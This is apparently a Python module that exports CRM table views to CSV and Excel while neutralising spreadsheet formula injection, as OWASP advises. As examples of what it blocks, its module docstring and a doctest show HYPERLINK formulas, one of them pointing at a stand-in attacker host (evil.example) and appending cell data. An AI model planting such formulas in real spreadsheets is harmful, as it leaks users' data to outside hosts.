"""Export of exactly what a table shows, with the filters that produced it, as CSV or XLSX.

Text in an export can come from anyone who types into the CRM (an account named
``=HYPERLINK("http://…"&B2,"x")``), and a spreadsheet runs a cell beginning with ``=``, ``+``,
``-`` or ``@`` as a formula.  So, as OWASP advises for CSV injection, every text cell that would
read as a formula (:func:`formula_like`) is marked as text: in a CSV file with a leading ``'``
(:func:`neutralise`), in an Excel file as a text cell with Excel's own "quote prefix" (what
Excel stores when one types ``'=…`` into a cell; the text itself is kept as it is).  Numbers
stay numbers (a negative amount is a number, not a formula), and the column headers and the
filters are treated like the data.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Mapping

import numpy as np
import pandas as pd
from openpyxl.workbook.workbook import Workbook

from i18n import _

__all__ = ["XLSX_MIME", "csv_bytes", "formula_like", "neutralise", "xlsx_bytes"]

XLSX_MIME = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"

#: Characters that start a formula (with their full-width forms, which some spreadsheets read
#: the same way), after any leading white space.
FORMULA_STARTS = frozenset("=+-@＝＋－＠")
#: Characters a cell must not begin with at all (OWASP: tab and carriage return; line feed too).
CONTROL_STARTS = frozenset("\t\r\n")
#: In a ``# key: value`` line of a CSV file, a field after a separator (comma, or a semicolon
#: or tab where a spreadsheet splits on those) that would read as a formula or a quoted field.
_FIELD_START = re.compile(r'([,;\t]\s*)(?=["=+\-@＝＋－＠])')


def formula_like(text: str) -> bool:
    r"""Whether a spreadsheet could read the cell ``text`` as a formula.

    Examples
    --------
    >>> [formula_like(t) for t in ("=1+1", "+31 20 555", "-x", "@SUM(A1)", " =1", "\tx")]
    [True, True, True, True, True, True]
    >>> [formula_like(t) for t in ("Acme", "", "  ", "1-2", "−$9,280", "'=1")]
    [False, False, False, False, False, False]
    """
    return text[:1] in CONTROL_STARTS or text.lstrip()[:1] in FORMULA_STARTS


def neutralise(value: object) -> object:
    r"""``value`` with a leading ``'`` when it is text that would read as a formula.

    Examples
    --------
    >>> neutralise('=HYPERLINK("http://evil.example","x")')
    '\'=HYPERLINK("http://evil.example","x")'
    >>> neutralise(-9280.0), neutralise("Acme")
    (-9280.0, 'Acme')
    """
    return f"'{value}" if isinstance(value, str) and formula_like(value) else value


def _plain(frame: pd.DataFrame) -> pd.DataFrame:
    """Timezone-free, Excel-safe copy (Excel has no time zones)."""
    out = frame.copy()
    for name in out.columns:
        if isinstance(out[name].dtype, pd.DatetimeTZDtype):
            out[name] = out[name].dt.tz_localize(None)
    return out


def _holds_text(dtype: np.dtype | pd.api.extensions.ExtensionDtype) -> bool:
    """Whether a column of ``dtype`` may hold text (not numbers, booleans or dates)."""
    types = pd.api.types
    return not (types.is_numeric_dtype(dtype) or types.is_datetime64_any_dtype(dtype))


def _csv_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """:func:`_plain` with every text cell and column name passed through :func:`neutralise`."""
    out = _plain(frame)
    out.columns = [neutralise(name) for name in out.columns]
    for position, dtype in enumerate(out.dtypes):
        if _holds_text(dtype):
            text = out.iloc[:, position].astype(object).map(neutralise)
            # isetitem takes a Series (pandas' docs); the stubs list only arrays and scalars
            out.isetitem(position, text)  # type: ignore[arg-type]
    return out


def _comment_line(key: str, value: str) -> str:
    """``# key: value`` on one line, no field of which reads as a formula in a spreadsheet."""
    line = " ".join(f"# {key}: {value}".splitlines())
    return _FIELD_START.sub(r"\1'", line) + "\n"


def csv_bytes(frame: pd.DataFrame, context: Mapping[str, str]) -> bytes:
    """UTF-8 CSV of ``frame`` preceded by ``# key: value`` lines describing the filters.

    Text cells are quoted (so a spreadsheet that splits on semicolons keeps them whole) and
    neutralised (:func:`neutralise`).  Read it back with ``pd.read_csv(path, comment="#")``.
    """
    header = "".join(_comment_line(key, value) for key, value in context.items())
    body = _csv_frame(frame).to_csv(index=False, quoting=csv.QUOTE_NONNUMERIC)
    return (header + body).encode("utf-8")


def _mark_text_cells(book: Workbook) -> None:
    """Make every cell of ``book`` whose text reads as a formula a text cell with a quote prefix.

    openpyxl stores a string beginning with ``=`` as a formula.
    """
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and formula_like(cell.value):
                    cell.data_type = "s"
                    cell.quotePrefix = True


def xlsx_bytes(frame: pd.DataFrame, context: Mapping[str, str], sheet: str | None = None) -> bytes:
    """An Excel workbook: ``frame`` on sheet ``sheet`` (default "Data") and the filters on sheet
    "Filters", sheet names and headers in the language in force.

    Text that reads as a formula is stored as text (see the module docstring).
    """
    buffer = io.BytesIO()
    filters = pd.DataFrame({_("Filter"): list(context), _("Value"): list(context.values())})
    with pd.ExcelWriter(buffer, engine="openpyxl") as writer:
        _plain(frame).to_excel(writer, sheet_name=(sheet or _("Data"))[:31], index=False)
        filters.to_excel(writer, sheet_name=_("Filters")[:31], index=False)
        _mark_text_cells(writer.book)
    return buffer.getvalue()
